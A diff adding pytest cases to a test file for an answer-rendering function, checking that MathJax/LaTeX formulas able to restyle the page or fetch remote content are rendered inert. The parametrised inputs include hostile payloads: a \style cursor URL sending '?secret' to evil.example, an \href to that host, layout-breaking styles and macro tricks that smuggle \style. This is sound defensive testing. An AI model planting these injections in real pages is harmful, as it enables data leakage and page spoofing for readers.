@@ -295,3 +295,28 @@ def test_control_characters_are_shown_and_lone_surrogates_replaced() -> None:
 def test_long_hostile_answers_come_out_whole() -> None:
     for piece in ("[", "\\(", "\\[\n", "$a ", "*a _b", "`", "<"):
         Page(answer_html(piece * 5_000))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        r"$\style{cursor:url(https://evil.example/c.png?secret),auto}{x}$",
+        r"$$\style{background:red;padding:600px}{x}$$",
+        r"\(\href{https://evil.example}{x}\)",
+        r"$x \ style{color:red}{y}$",
+        r"$\rule{3000px}{3000px}$",
+        r"$\def\s{\sty}\s$",
+        r"\[\csname style\endcsname{color:red}{x}\]",
+        "\\begin{equation}\n\\class{jp-Button}{x}\n\\end{equation}",
+    ],
+)
+def test_formula_that_could_restyle_the_page_or_fetch_something_is_no_formula(formula: str) -> None:
+    html = answer_html(f"The answer is {formula} and no more.")
+
+    # A delimiter that stands alone in a span is none for MathJax.
+    assert "$" not in html.replace("<span>$</span>", "")
+    assert "\\" not in html.replace("<span>\\</span>", "")
+
+
+def test_formula_that_only_computes_stays_one() -> None:
+    assert r"$\frac{a}{b} + \sqrt{x_1}$" in answer_html(r"So $\frac{a}{b} + \sqrt{x_1}$ it is.")
